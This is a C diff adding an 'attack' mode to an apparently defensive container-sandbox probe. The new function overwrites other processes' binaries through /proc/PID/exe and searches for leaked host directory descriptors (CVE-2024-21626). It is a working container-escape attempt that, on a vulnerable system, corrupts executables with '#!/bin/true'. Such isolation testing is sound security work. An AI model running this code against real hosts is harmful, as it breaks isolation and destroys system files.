@@ -100,6 +100,48 @@ static int session(void) {
   return 0;
 }
 
+// attack: for ever, opens /proc/PID/exe of every process that appears and, once it has ended, tries to write to it.
+// "overwritten NAME" is a hole. So is "descriptor of the host": a directory of another mount tree among its fds, which
+// shows in a path that ".." does not end (CVE-2024-21626).
+static int attack(void) {
+  printf("attacking\n");
+  fflush(stdout);
+  for (int last_pid = 0;;) {
+    DIR *proc = opendir("/proc");
+    if (proc == NULL) return 1;
+    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
+      int pid = atoi(entry->d_name);
+      if (pid <= 1 || pid <= last_pid - 1000) continue;
+      char path[64], target[512] = "", held[64];
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/bin/", 5) == 0) continue;
+      int fd = open(path, O_PATH | O_CLOEXEC);
+      if (fd < 0) continue;
+      snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
+      for (int i = 0; i < 200000; i++) {
+        int writable = open(held, O_WRONLY | O_CLOEXEC);
+        if (writable < 0 && errno == ETXTBSY) continue;
+        if (writable >= 0) {
+          if (write(writable, "#!/bin/true\n", 12) == 12) printf("overwritten %s\n", target);
+          fflush(stdout);
+          close(writable);
+        }
+        break;
+      }
+      close(fd);
+      for (int n = 3; n < 20; n++) {
+        snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../boot", pid, n);
+        if (access(path, F_OK) == 0) {
+          printf("descriptor of the host: %s\n", path);
+          fflush(stdout);
+        }
+      }
+      last_pid = pid;
+    }
+    closedir(proc);
+  }
+}
+
 int main(int argc, char **argv) {
   const char *word = argc > 1 ? argv[1] : "";
   if (strcmp(word, "fds") == 0) return fds();
@@ -110,6 +152,7 @@ int main(int argc, char **argv) {
   if (strcmp(word, "signals") == 0) return signals();
   if (strcmp(word, "eat") == 0 && argc == 3) return eat(atol(argv[2]));
   if (strcmp(word, "session") == 0) return session();
-  fprintf(stderr, "probe: fds | syscall NR [ARG…] | open PATH r|w | mknod c|b MAJ MIN | clocks | signals | eat MIB | session\n");
+  if (strcmp(word, "attack") == 0) return attack();
+  fprintf(stderr, "probe: fds | syscall NR [ARG…] | open PATH r|w | mknod c|b MAJ MIN | clocks | signals | eat MIB | session | attack\n");
   return 2;
 }
